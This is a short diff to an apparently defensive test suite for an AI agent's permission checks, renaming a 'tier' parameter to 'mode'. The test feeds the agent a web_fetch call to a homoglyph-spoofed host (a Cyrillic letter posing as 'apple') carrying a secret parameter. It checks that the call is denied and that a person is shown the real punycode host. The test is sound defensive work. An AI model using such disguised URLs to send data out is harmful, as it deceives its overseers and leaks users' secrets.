@@ -88,9 +88,9 @@ async def test_lying_names(arena: Arena) -> None:
 
 
 async def test_fetching_asks(arena: Arena) -> None:
-    """In the other tiers a person is asked before anything goes out, and shown the host as it is."""
+    """In the other modes a person is asked before anything goes out, and shown the host as it is."""
     url = "http://xn--pple-43d.test/?secret=1"
-    attacked = await arena.attack(("web_fetch", {"url": "http://\u0430pple.test/?secret=1"}), tier="auto_edit")
+    attacked = await arena.attack(("web_fetch", {"url": "http://\u0430pple.test/?secret=1"}), mode="auto_edit")
     assert attacked.statuses == ["denied"]
     assert arena.asked[0].summary == "fetch from xn--pple-43d.test"
     assert url in arena.asked[0].shown or "xn--pple-43d.test" in arena.asked[0].shown
